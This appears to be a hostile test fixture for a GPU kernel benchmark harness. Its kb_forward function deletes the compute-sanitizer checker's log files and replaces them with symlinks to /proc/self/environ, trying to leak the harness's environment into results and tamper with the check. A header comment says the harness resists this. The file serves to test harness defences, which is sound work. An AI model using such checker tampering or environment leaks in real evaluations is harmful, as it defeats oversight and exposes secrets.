// HOSTILE: on its first call, kb_forward replaces the report of the compute-sanitizer checking it (found
// through /proc) with a symbolic link to /proc/self/environ, so that a harness reading the report by its
// name reads its own environment into the result. The report is a pipe the harness made, reached by a
// descriptor: nothing of the harness's reaches the result, and the kernel's own report stands (clean).
#include "kb_problem.h"


extern "C" int kb_forward(const KBTensor* inputs, const KBTensor*, KBTensor* outputs, cudaStream_t stream) {
  static bool attacked = false;
  if (!attacked) {
    attacked = true;
    for_each_checker_file("--log-file", [](const char* log) {
      sys(87, reinterpret_cast<long>(log));  // unlink
      long linked = sys(88, reinterpret_cast<long>("/proc/self/environ"), reinterpret_cast<long>(log));  // symlink
      say(linked == 0 ? "HOSTILE replaced the checker's report with a link\n" : "HOSTILE could not replace the report\n");
    });
  }
  return launch_swish(inputs, outputs, stream);
}
